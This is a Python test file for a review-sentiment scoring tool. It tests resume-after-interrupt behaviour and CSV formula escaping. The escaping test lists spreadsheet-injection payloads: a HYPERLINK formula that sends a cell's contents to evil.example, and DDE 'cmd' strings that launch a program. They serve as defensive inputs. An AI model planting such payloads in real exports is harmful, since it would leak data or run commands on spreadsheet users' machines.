import csv
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from service.demo.generator import DemoConfig, write_demo
from service.ingest.language import LanguageDetector
from service.jobs.score_file import SCORE_COLUMNS, ScoreOptions, score_file
from tests.jobs._interrupt import Boom, stop_at

ROOT = Path(__file__).resolve().parents[2]


def _demo_csv(tmp_path, per_week=8, name="in.csv"):
    path = tmp_path / name
    write_demo(path, DemoConfig(per_week=per_week, weeks=26, seed=3))
    return path


def _score(src, out, scorer, chunk_size: int, on_chunk=None):
    detector = LanguageDetector()
    return score_file(
        src,
        out,
        scorer=scorer,
        detector=detector,
        options=ScoreOptions(on_chunk=on_chunk),
        chunk_size=chunk_size,
    )


def _read_csv(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_score_keeps_columns_and_adds_scores(tmp_path, real_pipeline):
    src = tmp_path / "in.csv"
    src.write_text(
        'id,text,extra\n1,"Great taste but the box arrived crushed.",a\n2,,b\n'
        "3,味道很好，但是包装破损了,c\n",
        encoding="utf-8",
    )
    rep = score_file(src, tmp_path / "out.csv", scorer=real_pipeline, detector=LanguageDetector())
    rows = _read_csv(tmp_path / "out.csv")
    assert rep.rows == 3 and rep.scored == 2 and rep.errors == 1
    assert list(rows[0]) == ["id", "text", "extra", *SCORE_COLUMNS]
    assert rows[0]["sentiment"] in ("positive", "negative", "neutral")
    aspects = json.loads(rows[0]["aspects"])
    assert {a["aspect"] for a in aspects} >= {"taste", "packaging"}
    assert set(aspects[0]) == {
        "aspect",
        "confidence",
        "sentiment",
        "sentiment_score",
        "evidence",
        "reason",
        "rule",
    }
    assert aspects[0]["reason"] in ("rule", "model", "rule+model")
    assert rows[1]["sentiment"] == "" and "row 3, field text: empty" in rows[1]["error"]
    assert rows[2]["language"] == "zh" and rows[0]["language"] == "en"
    assert -1 <= float(rows[0]["sentiment_score"]) <= 1
    assert not (tmp_path / "out.csv.progress.json").exists()


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_interrupted_run_resumes_without_duplicates_or_gaps(tmp_path, fake_scorer, suffix):
    src = _demo_csv(tmp_path)
    out = tmp_path / f"out{suffix}"
    with pytest.raises(Boom):
        _score(src, out, fake_scorer, chunk_size=40, on_chunk=stop_at(3))
    state = json.loads((tmp_path / f"out{suffix}.progress.json").read_text())
    assert state["rows_done"] == 120
    rep = _score(src, out, fake_scorer, chunk_size=40)
    assert rep.resumed_from == 120
    if suffix == ".csv":
        ids = [r["external_id"] for r in _read_csv(out)]
    elif suffix == ".jsonl":
        ids = [json.loads(line)["external_id"] for line in out.read_text().splitlines()]
    else:
        ids = pq.read_table(out).column("external_id").to_pylist()
    expected = [r["external_id"] for r in _read_csv(src)]
    assert ids == expected


def test_a_changed_input_starts_over(tmp_path, fake_scorer):
    src = _demo_csv(tmp_path, per_week=2)
    out = tmp_path / "out.csv"
    with pytest.raises(Boom):
        _score(src, out, fake_scorer, chunk_size=10, on_chunk=stop_at(1))
    src.write_text(src.read_text(encoding="utf-8") + "", encoding="utf-8")  # same content…
    os.utime(src, ns=(time.time_ns(), time.time_ns() + 10**9))  # …but touched
    rep = _score(src, out, fake_scorer, chunk_size=10)
    assert rep.resumed_from == 0 and len(_read_csv(out)) == rep.rows


@pytest.mark.slow
def test_killed_cli_job_finishes_on_rerun_with_the_same_rows(tmp_path):
    """`radar score` killed with SIGKILL mid-run; the re-run completes the output exactly."""
    src = _demo_csv(tmp_path, per_week=40)  # ~1,050 rows
    out = tmp_path / "scored.csv"
    env = {
        **os.environ,
        "RADAR_NO_PROGRESS": "1",
        "RADAR_DATABASE_URL": f"sqlite:///{tmp_path}/x.db",
    }
    cmd = [
        sys.executable,
        "-m",
        "service.cli.main",
        "score",
        str(src),
        "-o",
        str(out),
        "--chunk-size",
        "100",
    ]
    proc = subprocess.Popen(cmd, env=env, cwd=ROOT)
    progress = tmp_path / "scored.csv.progress.json"
    deadline = time.time() + 240
    while time.time() < deadline:
        if (
            progress.exists()
            and json.loads(progress.read_text() or "{}").get("rows_done", 0) >= 300
        ):
            break
        time.sleep(0.2)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert progress.exists(), "the job finished before it could be interrupted"
    done = subprocess.run(cmd, env=env, cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    summary = json.loads(done.stdout.strip().splitlines()[-1])
    assert summary["resumed_from_row"] >= 300
    rows = _read_csv(out)
    assert [r["external_id"] for r in rows] == [r["external_id"] for r in _read_csv(src)]
    assert all(r["sentiment"] for r in rows)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=1+1 carriage return first",
    "＝1+1 full-width",
]


def test_csv_output_neutralises_formulas_but_keeps_numbers(tmp_path, fake_scorer):
    """Issue 20: a text a spreadsheet would run is written with a leading quote (OWASP);
    numbers, negative ones included, stay numbers; JSONL keeps every value as it was."""
    src = tmp_path / "in.csv"
    with open(src, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "text", "note", "delta"])
        for i, formula in enumerate(FORMULAS):
            w.writerow([f"f{i}", f"{formula} terrible, awful, bad", formula, "-7"])
        w.writerow(["plain", "terrible awful taste, bad bad bad", "-", "-0.25"])
    score_file(src, tmp_path / "out.csv", scorer=fake_scorer, detector=LanguageDetector())
    rows = _read_csv(tmp_path / "out.csv")
    for row, formula in zip(rows, FORMULAS):
        assert row["note"] == "'" + formula
        assert row["text"] == "'" + formula + " terrible, awful, bad"
    assert rows[-1]["note"] == "'-" and rows[-1]["text"] == "terrible awful taste, bad bad bad"
    assert [r["delta"] for r in rows] == ["-7"] * len(FORMULAS) + ["-0.25"]  # numeric text: as is
    negative = [r for r in rows if r["sentiment"] == "negative"]
    assert negative and all(float(r["sentiment_score"]) < 0 for r in negative)  # a number, no quote
    for r in rows:
        assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values())
        assert all(not v.startswith("-") or v == "-7" or float(v) <= 0 for v in r.values() if v)

    score_file(src, tmp_path / "out.jsonl", scorer=fake_scorer, detector=LanguageDetector())
    records = [
        json.loads(line)
        for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    ]
    assert [r["note"] for r in records] == FORMULAS + ["-"]
    assert all(isinstance(r["sentiment_score"], float) for r in records)
    assert any(r["sentiment_score"] < 0 for r in records)
